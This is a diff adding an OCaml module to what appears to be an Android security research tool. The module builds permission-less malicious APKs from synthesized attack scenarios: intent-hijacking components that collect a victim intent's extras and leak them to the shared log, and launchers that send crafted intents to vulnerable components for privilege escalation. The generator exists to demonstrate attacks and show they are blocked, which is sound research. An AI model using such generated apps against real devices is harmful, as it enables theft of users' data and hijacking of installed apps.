@@ -1,0 +1,153 @@
+(* Concretize a synthesized attack scenario into a runnable malicious
+   APK.  This closes the loop the paper describes: the solver produces
+   the *signature* of a malicious capability; here we manufacture an app
+   with exactly that capability, so the exploit can be demonstrated
+   against the unprotected device and shown to be blocked under APE.
+
+   The generated app requests no permissions at all — like the paper's
+   postulated adversary, its power comes entirely from the vulnerable
+   apps already installed. *)
+
+open Separ_android
+open Separ_dalvik
+open Separ_specs
+open Separ_ame
+module B = Builder
+
+let attacker_package = "com.attacker.generated"
+let attacker_component = "PayloadComponent"
+
+(* Exfiltrate a value in a register: the adversary has no permissions, so
+   it writes to the unprotected log, which any colluding app can read. *)
+let exfiltrate b v = B.write_log b ~payload:v
+
+let hijack_component (bundle : Bundle.t) (sc : Scenario.t) =
+  let victim_intent =
+    Option.bind (Scenario.witness1 sc "hijackedIntent") (fun id ->
+        List.find_map
+          (fun (_, _, i) -> if i.App_model.im_id = id then Some i else None)
+          (Bundle.all_intents bundle))
+  in
+  let filter =
+    match sc.Scenario.sc_mal_filter with
+    | Some mf ->
+        Intent_filter.make ~actions:mf.Scenario.mf_actions
+          ~categories:mf.Scenario.mf_categories
+          ~data_types:mf.Scenario.mf_data_types
+          ~data_schemes:mf.Scenario.mf_data_schemes
+          ~data_hosts:mf.Scenario.mf_data_hosts ()
+    | None -> Intent_filter.make ~actions:[ "android.intent.action.ANY" ] ()
+  in
+  let kind =
+    match victim_intent with
+    | Some i -> Encode.delivery_kind i.App_model.im_icc
+    | None -> Component.Receiver
+  in
+  let entry =
+    match kind with
+    | Component.Activity -> "onCreate"
+    | Component.Service -> "onStartCommand"
+    | Component.Receiver -> "onReceive"
+    | Component.Provider -> "query"
+  in
+  let body =
+    B.meth ~name:entry ~params:1 (fun b ->
+        let stolen = B.get_all_extras b 0 in
+        exfiltrate b stolen)
+  in
+  ( Component.make ~name:attacker_component ~kind ~intent_filters:[ filter ] (),
+    B.cls ~name:attacker_component [ body ] )
+
+(* Craft and fire the malicious intent described by the scenario.  The
+   payload for each extra key the victim component reads is attacker-
+   controlled. *)
+let launcher_component (bundle : Bundle.t) (sc : Scenario.t) =
+  let mi = sc.Scenario.sc_mal_intent in
+  let victim =
+    List.find_map
+      (fun name ->
+        Option.bind (Scenario.witness1 sc name) (fun atom ->
+            Option.map snd (Bundle.find_component bundle atom)))
+      [ "launchedCmp"; "victimCmp" ]
+  in
+  let body =
+    B.meth ~name:"onCreate" ~params:1 (fun b ->
+        let i = B.new_intent b in
+        (match mi with
+        | Some m -> (
+            (match m.Scenario.mi_target with
+            | Some t -> B.set_class_name b i t
+            | None -> (
+                (* fall back to explicit targeting of the victim *)
+                match victim with
+                | Some v -> B.set_class_name b i v.App_model.cm_name
+                | None -> ()));
+            (match m.Scenario.mi_action with
+            | Some a -> B.set_action b i a
+            | None -> ());
+            (match (m.Scenario.mi_data_scheme, m.Scenario.mi_data_host) with
+            | Some s, Some h -> B.set_data_uri b i (s ^ "://" ^ h)
+            | Some s, None -> B.set_data_uri b i s
+            | None, _ -> ());
+            (match m.Scenario.mi_data_type with
+            | Some ty -> B.set_data_type b i ty
+            | None -> ());
+            List.iter (fun c -> B.add_category b i c) m.Scenario.mi_categories)
+        | None -> (
+            match victim with
+            | Some v -> B.set_class_name b i v.App_model.cm_name
+            | None -> ()));
+        (* fill every extra key the victim's entry point reads *)
+        (match victim with
+        | Some v ->
+            List.iter
+              (fun key ->
+                let payload = B.const_str b ("attacker:" ^ key) in
+                B.put_extra b i ~key ~value:payload)
+              v.App_model.cm_reads_extras
+        | None -> ());
+        let send =
+          match (mi, victim) with
+          | Some m, _ -> (
+              match m.Scenario.mi_delivery with
+              | Component.Service -> B.start_service
+              | Component.Receiver -> B.send_broadcast
+              | Component.Provider -> fun b i -> B.provider_op b Api.Provider_query i
+              | Component.Activity -> B.start_activity)
+          | None, Some v -> (
+              match v.App_model.cm_kind with
+              | Component.Service -> B.start_service
+              | Component.Receiver -> B.send_broadcast
+              | Component.Provider -> fun b i -> B.provider_op b Api.Provider_query i
+              | Component.Activity -> B.start_activity)
+          | None, None -> B.start_service
+        in
+        send b i)
+  in
+  ( Component.make ~name:attacker_component ~kind:Component.Activity (),
+    B.cls ~name:attacker_component [ body ] )
+
+(* Build the malicious app for a scenario.  Returns [None] for scenarios
+   that involve no adversary (pure inter-app leaks). *)
+let concretize (bundle : Bundle.t) (sc : Scenario.t) : Apk.t option =
+  let make comp cls =
+    Some
+      (Apk.make
+         ~manifest:
+           (Manifest.make ~package:attacker_package ~uses_permissions:[]
+              ~components:[ comp ] ())
+         ~classes:[ cls ])
+  in
+  match sc.Scenario.sc_kind with
+  | "intent_hijack" ->
+      let comp, cls = hijack_component bundle sc in
+      make comp cls
+  | "activity_launch" | "service_launch" | "privilege_escalation" ->
+      let comp, cls = launcher_component bundle sc in
+      make comp cls
+  | _ -> None
+
+(* How to trigger the attack once the app is installed. *)
+let trigger device =
+  Device.start_component device ~pkg:attacker_package
+    ~component:attacker_component
